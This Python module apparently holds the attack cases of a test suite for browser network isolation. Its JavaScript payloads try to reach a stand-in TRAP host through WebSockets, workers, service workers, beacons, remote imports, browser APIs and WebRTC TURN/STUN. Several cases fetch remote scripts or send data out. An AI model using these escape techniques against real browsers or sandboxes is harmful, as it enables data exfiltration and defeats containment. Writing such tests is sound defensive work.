"""Attacks that reach another server by a script: sockets, workers, real-time connections and interfaces of the browser itself."""

from __future__ import annotations

from typing import Any

from .attack import Attack, loaded, plain, pressed
from .hostile import Answer

WS = "new WebSocket('ws://TRAP/ws')"
JS = "text/javascript"


def framed(name: str, answer: Answer, **more: Any) -> Attack:
    """Return an attack by the WebSocket of a frame whose document is an odd one."""
    script = f"try {{ f.eval(`{WS}`) }} catch {{}} try {{ new f.WebSocket('ws://TRAP/f') }} catch {{}}"
    page = f"<iframe src=odd></iframe><script>function go() {{ for (let i = 0, f; f = frames[i]; i++) {{ {script} }} }}</script>"
    return Attack(f"socket_of_{name}", page, files={"odd": answer}, acts=("click [Go]",), **more)


def raw(status: str, *headers: str, body: str = "<p>odd") -> Answer:
    lines = "".join(f"{each}\r\n" for each in headers)
    return Answer(raw=f"HTTP/1.1 {status}\r\n{lines}Content-Length: {len(body)}\r\nConnection: close\r\n\r\n{body}".encode())


ICE = """const pc = new RTCPeerConnection({iceServers: [SERVERS]}); pc.createDataChannel('x'); pc.onicecandidate = () => 0;
await pc.setLocalDescription(await pc.createOffer())"""


def turn(name: str, url: str) -> Attack:
    script = ICE.replace("SERVERS", f"{{urls: '{url}', username: 'secret', credential: 'x'}}")
    return pressed(name, script)


REMOTE = """const a = new RTCPeerConnection(), b = new RTCPeerConnection(); a.createDataChannel('x');
await a.setLocalDescription(await a.createOffer()); await b.setRemoteDescription(a.localDescription);
await b.setLocalDescription(await b.createAnswer()); await a.setRemoteDescription(b.localDescription);
for (const kind of ['udp 2122260223 127.0.0.1 TRAP_PORT typ host', 'tcp 1518280447 127.0.0.1 TRAP_PORT typ host tcptype passive'])
  await a.addIceCandidate({candidate: `candidate:1 1 ${kind}`, sdpMid: '0'}).catch(() => 0)"""
WORKER = "try { new WebSocket('ws://TRAP/w') } catch {} fetch('http://TRAP/f', {mode: 'no-cors'}).catch(() => 0)"
WORKER_FILE = {"w.js": Answer(WORKER.encode(), JS)}
SERVICE = """onmessage = onfetch = onpush = e => e.waitUntil && e.waitUntil(far()); oninstall = e => e.waitUntil(far()); onactivate = far;
function far() { try { new WebSocket('ws://TRAP/sw') } catch {} return fetch('http://TRAP/sw', {mode: 'no-cors'}).catch(() => 0) }"""

ATTACKS: tuple[Attack, ...] = (
    # WebSockets, by the document that opens them
    pressed("socket", WS),
    pressed("socket_by_name", "new WebSocket('ws://localhost.:TRAP_PORT/'); new WebSocket('ws://LOCALHOST:TRAP_PORT/x')"),
    pressed("socket_stream", "new WebSocketStream('ws://TRAP/s')"),
    loaded("socket_of_an_empty_frame", "const f = document.createElement('iframe'); document.body.append(f);"
           "new f.contentWindow.WebSocket('ws://TRAP/1'); const W = f.contentWindow.WebSocket; f.remove(); new W('ws://TRAP/2')"),
    loaded("socket_of_a_frame_in_a_frame", "let w = window; for (let i = 0; i < 4; i++) { const f = w.document.createElement('iframe');"
           "w.document.body.append(f); w = f.contentWindow } new w.WebSocket('ws://TRAP/deep')"),
    loaded("socket_of_a_script_address", "const f = document.createElement('iframe'); f.src = `javascript:'<script>"
           "new WebSocket(\"ws://TRAP/j\")<\\/script>'`; document.body.append(f)"),
    loaded("socket_of_srcdoc", "const f = document.createElement('iframe'); f.srcdoc = `<script>new WebSocket('ws://TRAP/d')<\\/script>`;"
           "document.body.append(f)"),
    loaded("socket_of_data", "const f = document.createElement('iframe'); f.src = `data:text/html,<script>new WebSocket('ws://TRAP/d')"
           "<\\/script>`; document.body.append(f)"),
    loaded("socket_of_a_blob", "const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob([`<svg xmlns='http://"
           "www.w3.org/2000/svg'><script>new WebSocket('ws://TRAP/d')</script></svg>`], {type: 'image/svg+xml'}));"
           "document.body.append(f)".replace("</script>", "<\\/script>")),
    pressed("socket_of_a_popup", "const w = open(''); new w.WebSocket('ws://TRAP/1'); const v = open('about:blank', 'v', 'width=9');"
            "v.document.write(`<script>new WebSocket('ws://TRAP/2')<\\/script>`)"),
    pressed("socket_after_writing", "document.open(); document.write(`<script>new WebSocket('ws://TRAP/w')<\\/script>`); document.close()"),
    framed("an_unknown_type", raw("200 OK", "Content-Type: application/x-odd")),
    framed("no_type", raw("200 OK")),
    framed("an_empty_type", raw("200 OK", "Content-Type:")),
    framed("a_bad_type", raw("200 OK", "Content-Type: ;;;html")),
    framed("plain_text", raw("200 OK", "Content-Type: text/plain; charset=utf-7")),
    framed("json", raw("200 OK", "Content-Type: application/json", body="{}")),
    framed("xhtml", raw("200 OK", "Content-Type: application/xhtml+xml",
                        body="<html xmlns='http://www.w3.org/1999/xhtml'><script>new WebSocket('ws://TRAP/x')</script></html>")),
    framed("a_picture", Answer(b"\x89PNG\r\n\x1a\n", "image/png")),
    framed("a_sound", raw("200 OK", "Content-Type: audio/ogg")),
    framed("an_attachment", raw("200 OK", "Content-Type: text/html", "Content-Disposition: attachment")),
    framed("no_content", raw("204 No Content", body="")),
    framed("a_missing_page", raw("404 Not Found", body="")),
    framed("a_failed_page", raw("500 ", "Content-Type: text/html")),
    framed("an_odd_status", raw("299 ", "Content-Type: text/html", body="<script>new WebSocket('ws://TRAP/299')</script>")),
    framed("a_status_without_phrase", raw("430", "Content-Type: text/html", body="<script>new WebSocket('ws://TRAP/430')</script>")),
    framed("an_old_protocol", Answer(raw=b"<p>no status line at all<script>new WebSocket('ws://TRAP/09')</script>"), works=False),
    framed("two_lengths", raw("200 OK", "Content-Length: 5", "Content-Type: text/html"), works=False),
    framed("a_broken_encoding", raw("200 OK", "Content-Encoding: gzip", "Content-Type: text/html")),
    framed("a_policy_of_its_own", raw("200 OK", "Content-Type: text/html", "Content-Security-Policy: connect-src *",
                                      body="<script>new WebSocket('ws://TRAP/csp')</script>")),
    framed("a_multipart_page", raw("200 OK", "Content-Type: multipart/x-mixed-replace; boundary=b",
                                   body="--b\r\nContent-Type: text/html\r\n\r\n<script>new WebSocket('ws://TRAP/m')</script>\r\n--b--")),
    framed("an_archive", raw("200 OK", "Content-Type: multipart/related; boundary=b",
                             body="--b\r\nContent-Type: text/html\r\nContent-Location: http://a/\r\n\r\n<img src=http://TRAP/m>\r\n--b--")),
    # workers
    pressed("worker", "new Worker('w.js'); new Worker('w.js', {type: 'module'})", files=WORKER_FILE),
    pressed("worker_of_a_blob", f"const u = URL.createObjectURL(new Blob([`{WORKER}`])); new Worker(u);"
            "try { new SharedWorker(u) } catch {}"),
    pressed("worker_of_data", f"new Worker('data:text/javascript,' + encodeURIComponent(`{WORKER}`))"),
    pressed("worker_in_a_worker", f"new Worker(URL.createObjectURL(new Blob(['new Worker(URL.createObjectURL(new Blob([' +"
            f"JSON.stringify(`{WORKER}`) + '])))'])))"),
    pressed("worker_of_another_site", "for (const u of ['http://TRAP/w.js']) { try { new Worker(u) } catch {} }"
            "new Worker(URL.createObjectURL(new Blob(['importScripts(\"http://TRAP/i.js\")'])))"),
    pressed("worker_shared", "new SharedWorker('w.js'); new SharedWorker('w.js', {name: 'second'})", files=WORKER_FILE),
    pressed("worker_of_odd_type", "const f = document.createElement('iframe'); f.src = 'odd'; f.onload = () => { try {"
            "new f.contentWindow.Worker('w.js') } catch {} }; document.body.append(f); new Worker('w.js')",
            files={"w.js": Answer(WORKER.encode(), "text/ecmascript"), "odd": raw("200 OK", "Content-Type: text/weird")}),
    pressed("service_worker", "const r = await navigator.serviceWorker.register('sw.js'); await navigator.serviceWorker.ready;"
            "r.active.postMessage(1); await fetch('through')", files={"sw.js": Answer(SERVICE.encode(), JS)}),
    pressed("service_worker_redirects", "await navigator.serviceWorker.register('sw.js'); await navigator.serviceWorker.ready;"
            "location = 'next'", files={"sw.js": Answer(
                b"oninstall = () => skipWaiting(); onactivate = e => e.waitUntil(clients.claim());"
                b"onfetch = e => e.respondWith(Response.redirect('http://TRAP/re'))", JS)}),
    pressed("service_worker_imports", "await navigator.serviceWorker.register('sw.js')", files={
        "sw.js": Answer(b"importScripts('http://TRAP/i.js')", JS)}),
    pressed("background_fetch", "const r = await navigator.serviceWorker.register('sw.js'); await navigator.serviceWorker.ready;"
            "await r.backgroundFetch.fetch('x', ['http://TRAP/bg'])", files={"sw.js": Answer(b"onfetch = () => 0", JS)},
            works=False),
    pressed("worklets", "const c = new AudioContext(); await Promise.allSettled([c.audioWorklet.addModule('http://TRAP/a.js'),"
            "CSS.paintWorklet?.addModule('http://TRAP/p.js'), window.sharedStorage?.worklet.addModule('http://TRAP/s.js')])"),
    # other requests of scripts
    pressed("event_source", "new EventSource('http://TRAP/es')"),
    pressed("beacon", "navigator.sendBeacon('http://TRAP/b', new Blob(['x'], {type: 'text/plain'}))"),
    plain("beacon_on_leaving", "<script>onpagehide = onbeforeunload = onvisibilitychange = () => {"
          "navigator.sendBeacon('http://TRAP/b', 'x'); fetch('http://TRAP/k', {method: 'POST', keepalive: true, mode: 'no-cors'}) };"
          "addEventListener('unload', onpagehide)</script>",
          acts=('goto "http://OWN/NAME/next"',)),
    pressed("fetch_later", "fetchLater('http://TRAP/l', {activateAfter: 0}); fetchLater('http://TRAP/m', {method: 'POST', body: 'x'})"),
    pressed("synchronous", "const x = new XMLHttpRequest; x.open('GET', 'http://TRAP/x', false); try { x.send() } catch {}"),
    pressed("no_referrer_no_cors", "for (const mode of ['cors', 'no-cors']) for (const method of ['GET', 'POST', 'PUT']) fetch('http://TRAP/'"
            "+ mode + method, {mode, method, keepalive: true, cache: 'force-cache', priority: 'low'}).catch(() => 0)"),
    pressed("cache_add", "const c = await caches.open('x'); await c.add(new Request('http://TRAP/c', {mode: 'no-cors'}))"),
    pressed("dynamic_import", "import('http://TRAP/m.js').catch(() => 0);"
            "import('data:text/javascript,import \"http://TRAP/n.js\"').catch(() => 0)"),
    pressed("json_module", "import('http://TRAP/m.json', {with: {type: 'json'}}).catch(() => 0)"),
    pressed("font_face", "const f = new FontFace('far', 'url(http://TRAP/font)'); await f.load().catch(() => 0)"),
    # interfaces of the browser itself
    pressed("sign_in_provider", "navigator.credentials.get({identity: {providers: [{configURL: 'http://localhost:TRAP_PORT/c.json',"
            "clientId: 'x', nonce: 'n'}]}}).catch(() => 0); IdentityProvider?.getUserInfo?.({configURL: 'http://localhost:TRAP_PORT/u',"
            "clientId: 'x'}).catch(() => 0)"),
    pressed("payment", "const details = {total: {label: 'x', amount: {currency: 'EUR', value: '1'}}};"
            "const p = new PaymentRequest([{supportedMethods: 'http://localhost:TRAP_PORT/pay'}], details);"
            "p.canMakePayment().catch(() => 0); p.show().catch(() => 0)", works=False),
    pressed("presentation", "new PresentationRequest(['http://localhost:TRAP_PORT/p']).start().catch(() => 0)", works=False),
    pressed("auction", "navigator.joinAdInterestGroup?.({owner: 'http://localhost:TRAP_PORT', name: 'x', updateURL:"
            "'http://localhost:TRAP_PORT/u'}, 99).catch(() => 0)", works=False),
    pressed("passkey", "navigator.credentials.get({publicKey: {challenge: new Uint8Array(9), rpId: 'localhost.exact-blind.test'}})"
            ".catch(() => 0)", works=False),
    pressed("notification", "new Notification('x', {icon: 'http://TRAP/i', image: 'http://TRAP/j'}); navigator.mediaSession.metadata ="
            "new MediaMetadata({artwork: [{src: 'http://TRAP/a'}]})", works=False),
    pressed("drag_image", "document.body.insertAdjacentHTML('beforeend', '<a href=http://TRAP/a draggable=true><img src=http://TRAP/d></a>')"),
    pressed("clipboard", "navigator.clipboard.write([new ClipboardItem({'text/html': new Blob(['<img src=http://TRAP/c>'],"
            "{type: 'text/html'})})]).catch(() => 0); document.body.contentEditable = true; document.body.focus();"
            "document.execCommand('insertHTML', false, '<img src=http://TRAP/x>')"),
    # connections that are no requests
    turn("turn_over_tcp", "turn:127.0.0.1:TRAP_PORT?transport=tcp"),
    turn("turn_over_udp", "turn:127.0.0.1:TRAP_PORT?transport=udp"),
    turn("turn_over_tls", "turns:127.0.0.1:TRAP_PORT"),
    turn("turn_by_name", "turn:localhost:TRAP_PORT?transport=tcp"),
    turn("stun", "stun:127.0.0.1:TRAP_PORT"),
    pressed("peer", REMOTE),
    pressed("turn_of_a_frame", "const f = document.createElement('iframe'); document.body.append(f);"
            + ICE.replace("SERVERS", "{urls: 'turn:127.0.0.1:TRAP_PORT?transport=tcp', username: 'a', credential: 'b'}")
            .replace("new RTC", "new f.contentWindow.RTC")),
    pressed("web_transport", "new WebTransport('https://127.0.0.1:TRAP_PORT/wt').ready.catch(() => 0)"),
    pressed("web_transport_of_a_worker", "new Worker(URL.createObjectURL(new Blob(['new WebTransport(\"https://127.0.0.1:TRAP_PORT/wt\","
            "{serverCertificateHashes: [{algorithm: \"sha-256\", value: new Uint8Array(32)}]}).ready.catch(() => 0)'])))"),
)  # fmt: skip
